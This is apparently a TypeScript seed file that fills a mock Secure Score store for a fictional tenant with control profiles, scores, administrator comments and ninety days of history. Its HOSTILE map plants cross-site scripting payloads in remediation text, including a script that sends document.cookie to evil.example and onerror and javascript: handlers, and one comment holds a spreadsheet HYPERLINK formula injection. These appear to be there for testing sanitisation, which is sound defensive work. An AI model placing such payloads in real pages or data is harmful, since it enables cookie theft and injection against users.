/** Contoso's Secure Score: the controls, what each is worth and scores, and what moved in the last ninety days. */
import type { Kernel } from '../kernel.ts';
import { KEPT_DAYS, midnightOf, profilesOf, putScore, VENDOR } from '../secure-score.ts';
import type { ControlProfile, StateUpdate } from '../secure-score.ts';

const DAY_MS = 86_400_000;

type Weight = 'Low' | 'Moderate' | 'High';
type Control = [
  id: string,
  title: string,
  score: number,
  maxScore: number,
  cost: Weight,
  userImpact: Weight,
  remediation: string,
];

const ENTRA = 'https://entra.microsoft.com/';
const DEFENDER = 'https://security.microsoft.com/';
const PURVIEW = 'https://purview.microsoft.com/';
const INTUNE = 'https://intune.microsoft.com/';
const EXCHANGE = 'https://admin.exchange.microsoft.com/';

/** By category and service, with the page that a control links to and what it protects from. */
const GROUPS: {
  category: string;
  service: string;
  actionUrl: string;
  threats: string[];
  tier: string;
  controls: Control[];
}[] = [
  {
    category: 'Identity',
    service: 'AzureAD',
    actionUrl: `${ENTRA}#view/Microsoft_AAD_ConditionalAccess`,
    threats: ['Password Cracking', 'Account Breach', 'Elevation of Privilege'],
    tier: 'Core',
    controls: [
      [
        'AdminMFAV2',
        'Ask administrators for a second factor',
        10,
        10,
        'Low',
        'Low',
        'Require it for all privileged roles.',
      ],
      [
        'MFARegistrationV2',
        'Have everybody register a second factor',
        6.3,
        9,
        'Moderate',
        'Moderate',
        'Run a registration campaign.',
      ],
      [
        'BlockLegacyAuthentication',
        'Block sign-ins with old protocols',
        8,
        8,
        'Moderate',
        'Moderate',
        'Block them in a policy for all users.',
      ],
      [
        'SigninRiskPolicy',
        'Act on risky sign-ins',
        0,
        7,
        'Moderate',
        'Moderate',
        'Ask for a second factor when the risk is medium or higher.',
      ],
      [
        'UserRiskPolicy',
        'Act on people at risk',
        0,
        7,
        'Moderate',
        'Moderate',
        'Ask for a new password when the risk is high.',
      ],
      [
        'PWAgePolicyNew',
        'Let passwords live until there is a reason to change them',
        8,
        8,
        'Moderate',
        'Low',
        'Switch the expiry of passwords off.',
      ],
      [
        'SelfServicePasswordReset',
        'Let people reset their own password',
        1,
        1,
        'Moderate',
        'Moderate',
        'Switch it on for everybody.',
      ],
      [
        'IntegratedApps',
        'Keep people from agreeing to apps of unknown publishers',
        4,
        4,
        'Moderate',
        'Moderate',
        'Allow verified publishers and harmless permissions only.',
      ],
      [
        'OneAdmin',
        'Have more than one global administrator',
        1,
        1,
        'Low',
        'Low',
        'Name at least two and at most four.',
      ],
      [
        'RoleOverlap',
        'Give administrators only what they need',
        0.5,
        1,
        'Low',
        'Low',
        'Use roles with fewer rights than Global Administrator.',
      ],
      [
        'aad_phishing_MFA_strength',
        'Use factors that cannot be phished for administrators',
        0,
        8,
        'High',
        'Moderate',
        'Require security keys or certificates.',
      ],
      [
        'aad_linkedin_connection_disables',
        'Do not share the directory with LinkedIn',
        1,
        1,
        'Low',
        'Low',
        'Switch the connection off.',
      ],
    ],
  },
  {
    category: 'Apps',
    service: 'EXO',
    actionUrl: `${EXCHANGE}#/settings`,
    threats: ['Data Exfiltration', 'Phishing/Whaling'],
    tier: 'Defense in Depth',
    controls: [
      [
        'exo_mailboxaudit',
        'Record what happens in every mailbox',
        2.5,
        3,
        'Low',
        'Low',
        'Switch auditing on where somebody switched it off.',
      ],
      [
        'exo_storageproviderrestricted',
        'Keep attachments out of other storage providers',
        0,
        3,
        'Low',
        'Moderate',
        'Restrict providers in Outlook on the web.',
      ],
      [
        'exo_mailtipsenabled',
        'Warn people before they write to the outside',
        1,
        1,
        'Low',
        'Low',
        'Switch mail tips on for the whole organization.',
      ],
      [
        'exo_outlookaddins',
        'Let only approved add-ins into Outlook',
        0,
        2,
        'Moderate',
        'Moderate',
        'Take the roles for custom add-ins away.',
      ],
      [
        'exo_individualsharing',
        'Share calendars with nobody outside in detail',
        2,
        2,
        'Low',
        'Moderate',
        'Limit the sharing policy to free and busy.',
      ],
      [
        'mdo_autoforwardingmode',
        'Stop mail that forwards itself to the outside',
        0,
        6,
        'Low',
        'Moderate',
        'Set automatic forwarding to off in the outbound spam policy.',
      ],
    ],
  },
  {
    category: 'Apps',
    service: 'MDO',
    actionUrl: `${DEFENDER}threatpolicy`,
    threats: ['Phishing/Whaling', 'Spoofing', 'Account Breach'],
    tier: 'Core',
    controls: [
      [
        'mdo_safelinksforemail',
        'Check links at the moment of the click',
        5,
        9,
        'Low',
        'Low',
        'Cover all domains with a Safe Links policy.',
      ],
      [
        'mdo_safeattachments',
        'Open attachments in a sandbox first',
        8,
        8,
        'Low',
        'Moderate',
        'Cover all domains with a Safe Attachments policy.',
      ],
      [
        'mdo_safedocuments',
        'Check documents before they leave the protected view',
        0,
        5,
        'Low',
        'Low',
        'Switch Safe Documents on.',
      ],
      [
        'mdo_mailboxintelligence',
        'Learn who writes to whom, and notice imitators',
        8,
        8,
        'Low',
        'Low',
        'Switch mailbox intelligence on in the anti-phishing policy.',
      ],
      [
        'mdo_targetedusersprotection',
        'Protect the people who are imitated most',
        2,
        8,
        'Low',
        'Low',
        'Name board and finance in the anti-phishing policy.',
      ],
      [
        'mdo_phishthreshold',
        'Be strict about mails that look like phishing',
        6,
        8,
        'Low',
        'Moderate',
        'Raise the threshold to aggressive.',
      ],
      ['mdo_zapphish', 'Take phishing mails back after delivery', 6, 6, 'Low', 'Low', 'Leave the zero-hour purge on.'],
      [
        'mdo_commonattachmentsfilter',
        'Refuse attachments that nobody needs',
        5,
        5,
        'Low',
        'Low',
        'Switch the common attachments filter on.',
      ],
    ],
  },
  {
    category: 'Data',
    service: 'MIP',
    actionUrl: `${PURVIEW}datalossprevention`,
    threats: ['Data Exfiltration', 'Data Spillage'],
    tier: 'Defense in Depth',
    controls: [
      [
        'dlp_datalossprevention',
        'Notice when personal data leaves the company',
        0,
        10,
        'High',
        'Moderate',
        'Publish a policy for mail, sites and chats.',
      ],
      [
        'mip_sensitivitylabelspolicies',
        'Give people labels for what is confidential',
        5,
        5,
        'Moderate',
        'Moderate',
        'Publish labels to everybody.',
      ],
      [
        'mip_autosensitivitylabelspolicies',
        'Label by itself what is plainly confidential',
        0,
        5,
        'Moderate',
        'Low',
        'Switch the automatic labels from simulation to on.',
      ],
      [
        'mip_search_auditlog',
        'Keep the log of what people and administrators do',
        4,
        4,
        'Low',
        'Low',
        'Switch the unified audit log on.',
      ],
      [
        'spo_idle_session_timeout',
        'Sign idle browsers out',
        1,
        1,
        'Low',
        'Low',
        'Set a time limit in the SharePoint admin center.',
      ],
      [
        'spo_legacy_auth',
        'Let only modern clients reach sites',
        2,
        2,
        'Low',
        'Low',
        'Block apps without modern authentication.',
      ],
    ],
  },
  {
    category: 'Device',
    service: 'MDE',
    actionUrl: `${INTUNE}#view/Microsoft_Intune_Workflows/SecurityManagementMenu`,
    threats: ['Account Breach', 'Data Deletion'],
    tier: 'Advanced',
    controls: [
      [
        'scid_2010',
        'Have antivirus on and up to date',
        8.7,
        9,
        'Low',
        'Low',
        'Assign the antivirus profile to all devices.',
      ],
      ['scid_2080', 'Encrypt every disk', 7.2, 9, 'Moderate', 'Low', 'Assign the BitLocker profile to all devices.'],
      [
        'scid_91',
        'Keep scripts in documents from starting programs',
        3.6,
        9,
        'Moderate',
        'Moderate',
        'Set the attack surface reduction rule to block.',
      ],
      [
        'scid_2501',
        'Block programs that nobody has seen before',
        0,
        9,
        'Moderate',
        'High',
        'Set the prevalence rule to block, after a time of auditing.',
      ],
      ['scid_21', 'Lock idle screens', 8, 8, 'Low', 'Moderate', 'Set the time limit to fifteen minutes.'],
    ],
  },
  {
    category: 'Apps',
    service: 'MS Teams',
    actionUrl: 'https://admin.teams.microsoft.com/policies/meetings',
    threats: ['Data Spillage', 'Malicious Insider'],
    tier: 'Defense in Depth',
    controls: [
      [
        'meeting_autoadmitusers',
        'Let strangers wait in the lobby',
        2,
        2,
        'Low',
        'Moderate',
        'Admit people of the company only by themselves.',
      ],
      [
        'meeting_externalcontrol',
        'Let nobody from outside take control of a screen',
        1,
        1,
        'Low',
        'Low',
        'Switch it off in the meeting policy.',
      ],
      [
        'teams_externalaccess',
        'Choose which companies may chat with us',
        0,
        2,
        'Moderate',
        'High',
        'List the allowed domains.',
      ],
    ],
  },
];

/** No longer counted; Microsoft keeps them in the list. */
const DEPRECATED: [id: string, title: string, maxScore: number][] = [
  ['AdminMFA', 'Second factor for administrators (old way of counting)', 50],
  ['MailboxAuditEnabled', 'Record actions of mailbox owners (old way of counting)', 10],
  ['TLSDeprecation', 'Leave old versions of TLS behind', 5],
];

/** What is hostile in the text of a third party. */
const HOSTILE = new Map([
  [
    'mdo_safelinksforemail',
    '<script>fetch("https://evil.example/?c=" + document.cookie)</script><p onclick="alert(1)">Open <a href="javascript:alert(1)">the policies</a></p>',
  ],
  [
    'dlp_datalossprevention',
    '<p>Choose <b>Create</b> <img src="https://evil.example/pixel.png" onerror="alert(1)"> &amp; follow [these steps](https://evil.example/steps) <style>*{display:none}</style></p>',
  ],
]);

/** What an administrator said of a control: state, days ago. */
const STATED: Record<string, StateUpdate & { daysAgo: number }> = {
  IntegratedApps: {
    state: 'ThirdParty',
    assignedTo: '',
    updatedBy: 'priya@contoso.example',
    comment: 'Covered by our app governance tool since the consent incident.',
    daysAgo: 3,
  },
  exo_storageproviderrestricted: {
    state: 'Ignored',
    assignedTo: '',
    updatedBy: 'priya@contoso.example',
    comment: 'Research needs Dropbox; risk accepted until the end of the year.',
    daysAgo: 40,
  },
  scid_91: {
    state: 'Reviewed',
    assignedTo: 'adele@contoso.example',
    updatedBy: 'bea@contoso.example',
    comment: '=HYPERLINK("https://evil.example","Audit first") **then** block',
    daysAgo: 16,
  },
};

/** Days ago, what changed and from which score; to the score of the next line about it, or to the present one. */
const MOVES: [daysAgo: number, id: string, from: number][] = [
  [82, 'mdo_safeattachments', 3],
  [74, 'scid_2080', 4.5],
  [67, 'PWAgePolicyNew', 0],
  [58, 'mdo_targetedusersprotection', 8],
  [51, 'mip_sensitivitylabelspolicies', 0],
  [44, 'MFARegistrationV2', 4.5],
  [37, 'scid_91', 9],
  [30, 'mdo_commonattachmentsfilter', 0],
  [23, 'exo_mailboxaudit', 3],
  [19, 'BlockLegacyAuthentication', 0],
  [12, 'scid_2010', 7.5],
  [5, 'BlockLegacyAuthentication', 4],
  [3, 'IntegratedApps', 0],
  [2, 'mdo_safelinksforemail', 9],
];

/** Fills the two collections. The newest score is today's. */
export function seedSecureScore(kernel: Kernel): void {
  const now = kernel.clock.now();
  const all = GROUPS.flatMap((group) => group.controls.map((control) => ({ group, control })));
  for (const [index, { group, control }] of all.entries()) {
    const [id, title, score, maxScore, implementationCost, userImpact, remediation] = control;
    const { category: controlCategory, service, actionUrl, threats, tier } = group;
    const profile = { ...profileOf(kernel, id, title, maxScore), controlCategory, service, actionUrl, threats, tier };
    profilesOf(kernel).put({
      ...profile,
      rank: index + 1,
      implementationCost,
      userImpact,
      remediation: HOSTILE.get(id) ?? `<p>${remediation}</p>`,
      controlStateUpdates: stated(id, now),
      _score: score,
    });
  }
  for (const [id, title, maxScore] of DEPRECATED)
    profilesOf(kernel).put({ ...profileOf(kernel, id, title, maxScore), deprecated: true });
  for (let daysAgo = KEPT_DAYS - 1; daysAgo >= 0; daysAgo -= 1) {
    const scores = all.map(({ control: [id, , present] }) => [id, scoreOf(id, present, daysAgo)] as const);
    putScore(kernel, midnightOf(now) - daysAgo * DAY_MS, KEPT_DAYS - 1 - daysAgo, Object.fromEntries(scores));
  }
}

/** The score so many days ago: what the next later move started from. */
function scoreOf(id: string, present: number, daysAgo: number): number {
  return MOVES.find(([at, moved]) => moved === id && at < daysAgo)?.[2] ?? present;
}

function stated(id: string, now: Date): StateUpdate[] {
  const found = STATED[id];
  if (!found) return [];
  const { daysAgo, ...update } = found;
  return [{ ...update, updatedDateTime: new Date(now.getTime() - daysAgo * DAY_MS).toISOString() }];
}

function profileOf(kernel: Kernel, id: string, title: string, maxScore: number): ControlProfile {
  return {
    id,
    azureTenantId: kernel.tenant.id,
    title,
    maxScore,
    actionType: 'Config',
    actionUrl: DEFENDER,
    complianceInformation: [],
    controlCategory: 'Identity',
    controlStateUpdates: [],
    deprecated: false,
    implementationCost: 'Low',
    lastModifiedDateTime: '2026-02-01T00:00:00Z',
    rank: 1000,
    remediation: '',
    remediationImpact: '<p>See the user impact.</p>',
    service: 'AzureAD',
    threats: [],
    tier: 'Core',
    userImpact: 'Low',
    vendorInformation: VENDOR,
    _score: 0,
  };
}
